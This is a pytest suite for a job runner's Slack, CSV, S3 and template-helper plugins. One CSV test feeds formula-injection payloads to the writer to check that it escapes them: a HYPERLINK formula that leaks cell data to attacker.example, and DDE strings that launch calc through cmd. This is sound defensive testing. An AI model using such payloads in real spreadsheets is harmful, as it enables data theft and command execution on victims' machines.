"""The first-party plugins of the repository's plugins/ folder: slack, csv, s3, template helpers."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import json
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest

import opus_runner.builtins
from opus_runner import redact
from opus_runner.errors import DeliveryFailed
from opus_runner.models import Context, InputField, JobEvent, JobResult
from opus_runner.plugins import PluginHost, call_handler, make_plugin_host
from conftest import make_ctx as shared_ctx, make_result as shared_result

PLUGINS = Path(__file__).resolve().parent.parent / "plugins"
KEY = "sk-first-party-key-0123456789"


@pytest.fixture
def host(monkeypatch: pytest.MonkeyPatch) -> PluginHost:
    monkeypatch.setattr(
        opus_runner.builtins, "BUILTIN_PLUGINS", ("opus_runner.builtins.outputs", "opus_runner.builtins.notifiers")
    )
    return make_plugin_host(plugins_dir=PLUGINS, entrypoints=False)


def module(name: str) -> Any:
    return sys.modules[f"opus_runner_local.{name}"]


def make_ctx(tmp_path: Path, **kw: Any) -> Context:
    return shared_ctx(tmp_path, log_name="t.fp", **kw)


def make_result(**kw: Any) -> JobResult:
    return shared_result(**{"job_id": "job-1", "outputs": {"summary": "Fine", "total": 12.5}, **kw})


def test_the_folder_loads_as_local_plugins(host: PluginHost) -> None:
    local = {i.name: i for i in host.describe() if i.origin == "local"}
    assert sorted(local) == ["csv_output", "s3_upload", "slack_notify", "template_helpers"]
    assert local["slack_notify"].notifiers == ["slack"]
    assert local["csv_output"].outputs == ["csv"]
    assert local["s3_upload"].hooks == ["opus_upload_file"]
    assert local["template_helpers"].hooks == ["opus_template_filters", "opus_template_globals"]
    for info in local.values():
        assert Path(info.source) == PLUGINS / f"{info.name}.py"


# -- slack ------------------------------------------------------------------------------------


class Recorder:
    def __init__(self, status: int = 200, text: str = "ok") -> None:
        self.requests: list[httpx.Request] = []
        self.status, self.text = status, text

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        return httpx.Response(self.status, text=self.text)


def send_slack(host: PluginHost, event: JobEvent, config: dict[str, Any], recorder: Recorder, tmp_path: Path) -> None:
    async def go() -> None:
        # Like the run's client: the service key is a default header that must not leak.
        transport = httpx.MockTransport(recorder)
        async with httpx.AsyncClient(transport=transport, headers={"x-service-key": KEY}) as client:
            ctx = make_ctx(tmp_path, http=client)
            await call_handler(host.notifiers["slack"], event, {"type": "slack", **config}, ctx, timeout=10)

    asyncio.run(go())


def test_slack_posts_an_incoming_webhook_message(host: PluginHost, tmp_path: Path) -> None:
    recorder = Recorder()
    event = JobEvent(
        kind="completed",
        job_id="job-1",
        spec_name="invoice-triage",
        status="COMPLETED",
        plan_key="invoice-triage[region=eu]",
        result=make_result(outputs={"summary": "Totals <ok> & done", "rows": [1, 2], "long": "z" * 400}),
    )
    url = "https://hooks.slack.com/services/T000/B000/XXXX"
    send_slack(host, event, {"webhook_url": url, "channel": "#ops"}, recorder, tmp_path)
    [request] = recorder.requests
    assert str(request.url) == url
    assert "x-service-key" not in request.headers
    body = json.loads(request.content)
    assert body["text"] == ":white_check_mark: invoice-triage [invoice-triage[region=eu]]: completed (COMPLETED)"
    assert body["channel"] == "#ops"
    fields = [f["text"] for f in body["blocks"][1]["fields"]]
    assert fields == ["*Spec*\ninvoice-triage [invoice-triage[region=eu]]", "*Status*\nCOMPLETED", "*Job*\n`job-1`"]
    outputs = body["blocks"][2]["text"]["text"]
    assert outputs.startswith("*Outputs*\n• *summary*: Totals &lt;ok&gt; &amp; done\n• *rows*: [1, 2]\n• *long*: ")
    assert outputs.endswith("z" * 299 + "…")


def test_slack_shows_failures_and_limits_outputs(host: PluginHost, tmp_path: Path) -> None:
    recorder = Recorder()
    event = JobEvent(
        kind="failed",
        job_id="job-2",
        spec_name="report",
        status="FAILED",
        result=make_result(outputs={f"o{n}": n for n in range(4)}),
        error="node 3 failed: timeout",
    )
    send_slack(host, event, {"webhook_url": "https://hooks.slack.com/services/x", "max_outputs": 2}, recorder, tmp_path)
    body = json.loads(recorder.requests[0].content)
    assert body["text"] == ":x: report: failed (FAILED)"
    texts = [b["text"]["text"] for b in body["blocks"] if "text" in b]
    assert "*Error*\nnode 3 failed: timeout" in texts
    assert texts[-1] == "*Outputs*\n• *o0*: 0\n• *o1*: 1\n_…and 2 more_"
    assert "channel" not in body


def test_slack_refusal_raises_without_showing_the_webhook_url(host: PluginHost, tmp_path: Path) -> None:
    recorder = Recorder(status=404, text="no_service")
    event = JobEvent(kind="completed", job_id="job-3", spec_name="s", status="COMPLETED")
    with pytest.raises(DeliveryFailed) as info:
        send_slack(host, event, {"webhook_url": "https://hooks.slack.com/services/T/B/SECRET"}, recorder, tmp_path)
    assert str(info.value) == "slack webhook https://hooks.slack.com/… answered HTTP 404: no_service"


def test_slack_config_is_checked(host: PluginHost) -> None:
    errors = host.check_config("notify", [{"type": "slack", "webhook": "https://x"}], file="s.yaml", key="notify")
    assert [str(e) for e in errors] == [
        "s.yaml: notify[0]: missing required key 'webhook_url'",
        "s.yaml: notify[0].webhook: unknown key 'webhook'; did you mean 'webhook_url'?",
    ]
    with pytest.raises(ValueError, match="slack webhook_url must be an https:// URL"):
        send_slack(
            host,
            JobEvent(kind="completed", job_id="j", spec_name="s"),
            {"webhook_url": "http://hooks.slack.com/services/x"},
            Recorder(),
            Path("."),
        )


# -- csv --------------------------------------------------------------------------------------


def write_csv(host: PluginHost, result: JobResult, config: dict[str, Any], ctx: Context) -> Path:
    return asyncio.run(call_handler(host.outputs["csv"], result, {"type": "csv", **config}, ctx))


def read_rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_csv_writes_the_header_once_then_one_row_per_job(host: PluginHost, tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path)
    first = make_result(outputs={"summary": 'quoted, "comma"\nand newline', "data": {"k": [1]}})
    path = write_csv(host, first, {"path": "out/jobs.csv"}, ctx)
    assert path == tmp_path / "out" / "jobs.csv"
    # A later job with other outputs still lines up under the existing header.
    write_csv(host, make_result(job_id="job-2", outputs={"data": 7, "extra": "dropped"}), {"path": "out/jobs.csv"}, ctx)
    assert read_rows(path) == [
        ["plan_key", "job_id", "status", "finished_at", "summary", "data"],
        [
            "invoice-triage[region=eu]",
            "job-1",
            "COMPLETED",
            "2026-11-30T10:00:00Z",
            'quoted, "comma"\nand newline',
            '{"k":[1]}',
        ],
        ["invoice-triage[region=eu]", "job-2", "COMPLETED", "2026-11-30T10:00:00Z", "", "7"],
    ]


def test_csv_redelivery_writes_a_job_once_per_outcome(host: PluginHost, tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path)
    write_csv(host, make_result(job_id="job-1"), {"path": "jobs.csv"}, ctx)
    again = make_ctx(tmp_path)
    again.redelivery = True  # resume after a crash that came after the write
    write_csv(host, make_result(job_id="job-1"), {"path": "jobs.csv"}, again)
    write_csv(host, make_result(job_id="job-1", status="FAILED"), {"path": "jobs.csv"}, again)
    write_csv(host, make_result(job_id="job-2"), {"path": "jobs.csv"}, again)
    rows = read_rows(tmp_path / "jobs.csv")[1:]
    assert [(r[1], r[2]) for r in rows] == [("job-1", "COMPLETED"), ("job-1", "FAILED"), ("job-2", "COMPLETED")]


def test_csv_columns_and_a_mismatching_existing_file(host: PluginHost, tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path)
    config = {"path": "picked.csv", "columns": ["job_id", "total", "spec_name"]}
    write_csv(host, make_result(), config, ctx)
    assert read_rows(tmp_path / "picked.csv") == [["job_id", "total", "spec_name"], ["job-1", "12.5", "invoice-triage"]]
    with pytest.raises(ValueError, match=r"picked\.csv already has the columns job_id, total, spec_name, not job_id"):
        write_csv(host, make_result(), {"path": "picked.csv", "columns": ["job_id"]}, ctx)


def test_csv_concurrent_appends_write_one_header_and_whole_rows(host: PluginHost, tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path)
    handler = host.outputs["csv"].func
    config = {"type": "csv", "path": "busy.csv"}

    def job(n: int) -> None:
        handler(make_result(job_id=f"job-{n}", outputs={"summary": "s" * 5000 + str(n)}), config, ctx)

    threads = [threading.Thread(target=job, args=(n,)) for n in range(24)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    rows = read_rows(tmp_path / "busy.csv")
    assert rows[0] == ["plan_key", "job_id", "status", "finished_at", "summary"]
    assert sorted(r[1] for r in rows[1:]) == sorted(f"job-{n}" for n in range(24))
    assert all(r[4] == "s" * 5000 + r[1].split("-")[1] for r in rows[1:])


def test_csv_neutralises_formulas_but_keeps_numbers(host: PluginHost, tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path)
    link = '=HYPERLINK("https://attacker.example/?leak="&A1,"click")'
    outputs = {
        "link": link,
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "number": -3.5,
        "integer": -7,
        "number_text": "-3.5",
        "plain": "a = b",
        "flag": True,
        "listed": ["=1+1"],
        f"={'name'}": "column",  # an output name from the server heads a column too
    }
    path = write_csv(host, make_result(outputs=outputs), {"path": "f.csv"}, ctx)
    header, row = read_rows(path)
    cells = dict(zip(header, row))
    assert header[-1] == "'=name"
    assert cells["link"] == "'" + link
    assert [cells[k] for k in ("plus", "minus", "at", "tab", "cr")] == [
        "'" + outputs[k] for k in ("plus", "minus", "at", "tab", "cr")
    ]
    assert (cells["number"], cells["integer"], cells["number_text"]) == ("-3.5", "-7", "'-3.5")
    assert (cells["plain"], cells["flag"], cells["listed"]) == ("a = b", "true", '["=1+1"]')
    # The quoted header still names its column: a second job lines up, a redelivery is not doubled.
    write_csv(host, make_result(job_id="job-2", outputs=outputs), {"path": "f.csv"}, ctx)
    again = make_ctx(tmp_path)
    again.redelivery = True
    write_csv(host, make_result(job_id="job-2", outputs=outputs), {"path": "f.csv"}, again)
    rows = read_rows(path)
    assert len(rows) == 3 and rows[2][-1] == "column"


def test_csv_masks_secrets(host: PluginHost, tmp_path: Path) -> None:
    redact.register("csv-secret-value-42")
    path = write_csv(host, make_result(outputs={"echo": "csv-secret-value-42"}), {"path": "s.csv"}, make_ctx(tmp_path))
    assert "csv-secret-value-42" not in path.read_text()


# -- s3 (moto) --------------------------------------------------------------------------------


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    from moto import mock_aws

    for name, value in {
        "AWS_ACCESS_KEY_ID": "testing",
        "AWS_SECRET_ACCESS_KEY": "testing",
        "AWS_SESSION_TOKEN": "testing",
        "AWS_DEFAULT_REGION": "us-east-1",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("AWS_PROFILE", raising=False)
    monkeypatch.delenv("OPUS_S3_URL_EXPIRES", raising=False)
    with mock_aws():
        import boto3

        s3 = boto3.client("s3")
        s3.create_bucket(Bucket="acme-legal")
        s3.put_object(Bucket="acme-legal", Key="contracts/q4.pdf", Body=b"%PDF-1.7 contract")
        yield s3


def file_field(*types: str) -> InputField:
    return InputField(
        variable_name="workflow_input_doc", display_name="Contract", type="file", allowed_file_types=types
    )


def upload(host: PluginHost, source: str, ctx: Context, field: InputField | None = None) -> Any:
    return asyncio.run(
        host.first("opus_upload_file", offload=True, field=field or file_field("PDF"), source=source, ctx=ctx)
    )


def test_s3_sources_become_presigned_https_urls(host: PluginHost, aws: Any, tmp_path: Path) -> None:
    url = upload(host, "s3://acme-legal/contracts/q4.pdf", make_ctx(tmp_path))
    parts = urlsplit(url)
    assert parts.scheme == "https"
    assert "acme-legal" in url and parts.path.endswith("contracts/q4.pdf")
    query = parse_qs(parts.query)
    assert query["X-Amz-Expires"] == ["3600"]
    signature = query["X-Amz-Signature"][0]
    assert redact.mask(url).count("***") >= 1 and signature not in redact.mask(url)
    # The URL names the object: moto serves it to `requests` (a dependency of moto itself).
    import requests

    assert requests.get(url, timeout=5).content == b"%PDF-1.7 contract"


def test_s3_missing_object_names_bucket_and_key(host: PluginHost, aws: Any, tmp_path: Path) -> None:
    with pytest.raises(ValueError) as info:
        upload(host, "s3://acme-legal/contracts/nope.pdf", make_ctx(tmp_path))
    assert (
        str(info.value) == "S3 object 'contracts/nope.pdf' does not exist in bucket 'acme-legal'; check the s3:// path"
    )
    with pytest.raises(ValueError, match="does not exist in bucket 'no-such-bucket'"):
        upload(host, "s3://no-such-bucket/a.pdf", make_ctx(tmp_path))


def test_s3_checks_the_path_type_and_dry_run(
    host: PluginHost, aws: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ctx = make_ctx(tmp_path)
    with pytest.raises(ValueError, match="is not an S3 object URL"):
        upload(host, "s3://acme-legal/", ctx)
    with pytest.raises(ValueError, match=r"is a \.csv file, but Contract accepts only PDF"):
        upload(host, "s3://acme-legal/data.csv", ctx)
    dry = make_ctx(tmp_path, dry_run=True)
    assert upload(host, "s3://acme-legal/missing.pdf", dry) == "https://acme-legal.s3.amazonaws.com/missing.pdf"
    monkeypatch.setenv("OPUS_S3_URL_EXPIRES", "60")
    url = upload(host, "s3://acme-legal/contracts/q4.pdf", ctx, file_field())
    assert parse_qs(urlsplit(url).query)["X-Amz-Expires"] == ["60"]
    monkeypatch.setenv("OPUS_S3_URL_EXPIRES", "forever")
    with pytest.raises(ValueError, match="OPUS_S3_URL_EXPIRES must be a number of seconds"):
        upload(host, "s3://acme-legal/contracts/q4.pdf", ctx)


def test_s3_passes_other_sources_on(tmp_path: Path, host: PluginHost) -> None:
    hook = module("s3_upload").opus_upload_file
    ctx = make_ctx(tmp_path)
    for source in ("docs/contract.pdf", "https://example.com/a.pdf", "gs://bucket/a.pdf"):
        assert hook(file_field("PDF"), source, ctx) is None


def test_s3_without_boto3_says_how_to_install_it(
    host: PluginHost, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "boto3", None)  # makes `import boto3` raise ImportError
    with pytest.raises(ValueError, match=r"s3://b/a\.pdf: reading s3:// files needs boto3; run `pip install boto3`"):
        upload(host, "s3://b/a.pdf", make_ctx(tmp_path))


# -- template helpers -------------------------------------------------------------------------


def render(host: PluginHost, template: str, **context: Any) -> str:
    from jinja2 import StrictUndefined
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    env = ImmutableSandboxedEnvironment(undefined=StrictUndefined)
    env.filters.update(host.template_filters(None))
    env.globals.update(host.template_globals(None))
    return env.from_string(template).render(**context)


def test_template_helpers(host: PluginHost, monkeypatch: pytest.MonkeyPatch) -> None:
    assert render(host, "{{ 'Café Müller & Co.' | slugify }}") == "cafe-muller-co"
    assert render(host, "{{ 'Q4 Report' | slugify('_') }}") == "q4_report"
    assert render(host, "{{ '2026-11-17' | month_start }}") == "2026-11-01"
    assert render(host, "{{ '2024-02' | month_end }}") == "2024-02-29"
    assert render(host, "{{ d | previous_month }}", d=dt.date(2026, 1, 15)) == "2025-12"
    assert render(host, "{{ d | previous_month | month_end }}", d=dt.datetime(2026, 3, 5, 12)) == "2026-02-28"
    assert render(host, "{{ '2026-12-30' | add_days(3) }}") == "2027-01-02"
    monkeypatch.setenv("OPUS_TEST_REGION", "us")
    monkeypatch.delenv("OPUS_TEST_MISSING", raising=False)
    assert render(host, "{{ env_or('OPUS_TEST_REGION', 'eu') }}/{{ env_or('OPUS_TEST_MISSING', 'eu') }}") == "us/eu"
    helpers = module("template_helpers")
    assert helpers.month_start("2026-11-17T08:00:00Z") == dt.date(2026, 11, 1)
    with pytest.raises(ValueError, match="expected a date, 'YYYY-MM-DD' or 'YYYY-MM', found 'soon'"):
        helpers.month_start("soon")
